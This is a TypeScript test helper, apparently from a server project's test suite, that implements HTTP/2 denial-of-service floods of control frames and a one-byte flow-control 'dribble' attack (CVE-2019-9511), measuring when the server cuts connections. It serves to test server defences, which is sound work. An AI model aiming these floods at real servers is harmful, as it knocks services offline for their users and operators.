import {
  CONTINUATION,
  DATA,
  frame,
  HEADERS,
  headerBlock,
  PING,
  postTo,
  RawHttp2,
  SETTINGS,
  uint32,
  WINDOW_UPDATE,
} from "@rollcall/testing/raw/http2";
import type { AttackResult } from "./http2-attacks.ts";

const PRIORITY = 2;
/** Frame type that no specification defines. */
const UNKNOWN = 0xbe;
const FRAMES_AT_ONCE = 500;
/** Longest wait for a server that has stopped reading, in milliseconds. */
const DRAIN_MS = 50;

/** Begins an upload, and returns its stream. */
const upload = (client: RawHttp2, headers: Record<string, string>) =>
  client.request(postTo("/stream.v1.StreamService/ClientStream", { "content-type": "application/grpc", ...headers }));

/** Floods of frames without a request. Each function makes the frame to repeat, on a new connection. */
const floods = {
  SETTINGS: () => frame(SETTINGS, 0, 0),
  PING: () => frame(PING, 0, 0, Buffer.alloc(8)),
  "empty DATA": (client, headers) => frame(DATA, 0, upload(client, headers)),
  CONTINUATION: (client) => {
    const streamId = client.reserveStreamId();
    client.send(frame(HEADERS, 0, streamId, headerBlock(postTo("/"))));
    return frame(CONTINUATION, 0, streamId, headerBlock({ x: "y" }));
  },
  "empty CONTINUATION": (client) => {
    const streamId = client.reserveStreamId();
    client.send(frame(HEADERS, 0, streamId, headerBlock(postTo("/"))));
    return frame(CONTINUATION, 0, streamId);
  },
  WINDOW_UPDATE: () => frame(WINDOW_UPDATE, 0, 0, uint32(1)),
  PRIORITY: () => frame(PRIORITY, 0, 1, Buffer.from([0, 0, 0, 0, 1])),
  unknown: () => frame(UNKNOWN, 0, 0, Buffer.alloc(8)),
} satisfies Record<string, (client: RawHttp2, headers: Record<string, string>) => Buffer>;

export type ControlFlood = keyof typeof floods;

/** Floods that end their connections at once. */
export const cutFloods = (Object.keys(floods) as ControlFlood[]).filter((kind) => kind !== "WINDOW_UPDATE");

export interface ControlFloodOptions {
  readonly kind: ControlFlood;
  /** Whether the client reads the answers. */
  readonly reads: boolean;
  /** Time after which the flood stops, in milliseconds. With `untilCut`, it stops when a connection was ended. */
  readonly durationMs?: number;
  readonly untilCut?: boolean;
  readonly headers: Record<string, string>;
}

/** Sends frames of one kind as fast as the server reads. Opens a new connection whenever one is ended. */
export async function controlFlood(
  port: number,
  { kind, reads, durationMs = Number.POSITIVE_INFINITY, untilCut = false, headers }: ControlFloodOptions,
): Promise<AttackResult> {
  const startedAtMs = performance.now();
  let cut = 0;
  let requests = 0;
  let firstCutMs: number | undefined;
  const isOver = () => (untilCut && cut > 0) || performance.now() - startedAtMs > durationMs;
  while (!isOver()) {
    const client = await RawHttp2.open(port);
    const batch = Buffer.concat(new Array<Buffer>(FRAMES_AT_ONCE).fill(floods[kind](client, headers)));
    if (!reads) client.socket.pause();
    while (!isOver() && !client.isClosed) {
      await Promise.race([client.sendAll(batch), new Promise((resolve) => setTimeout(resolve, DRAIN_MS))]);
      requests += FRAMES_AT_ONCE;
      await new Promise(setImmediate);
      client.received.length = 0;
    }
    if (client.isClosed) {
      cut += 1;
      firstCutMs ??= performance.now() - startedAtMs;
    }
    client.destroy();
  }
  return { cut, requests, firstCutMs };
}

/**
 * Asks for large answers with a window of one byte, and opens the window by one byte again and again. Each byte is then
 * a separate frame (CVE-2019-9511).
 */
export async function dribble(
  port: number,
  { durationMs, headers, streams }: { durationMs: number; headers: Record<string, string>; streams: number },
): Promise<AttackResult> {
  const startedAtMs = performance.now();
  const client = await RawHttp2.open(port, { initialWindowBytes: 1 });
  const streamIds = Array.from({ length: streams }, () => {
    const streamId = client.request(postTo("/user.v1.UserService/ListUsers", headers));
    client.send(frame(DATA, 1, streamId, Buffer.from('{"pageSize":1000}')));
    return streamId;
  });
  let requests = streams;
  const updates = Buffer.concat(streamIds.map((streamId) => frame(WINDOW_UPDATE, 0, streamId, uint32(1))));
  while (performance.now() - startedAtMs < durationMs && !client.isClosed) {
    await Promise.race([client.sendAll(updates), new Promise((resolve) => setTimeout(resolve, DRAIN_MS))]);
    requests += streams;
    await new Promise(setImmediate);
    client.received.length = 0;
  }
  const firstCutMs = client.isClosed ? performance.now() - startedAtMs : undefined;
  client.destroy();
  return { cut: client.isClosed ? 1 : 0, requests, firstCutMs };
}
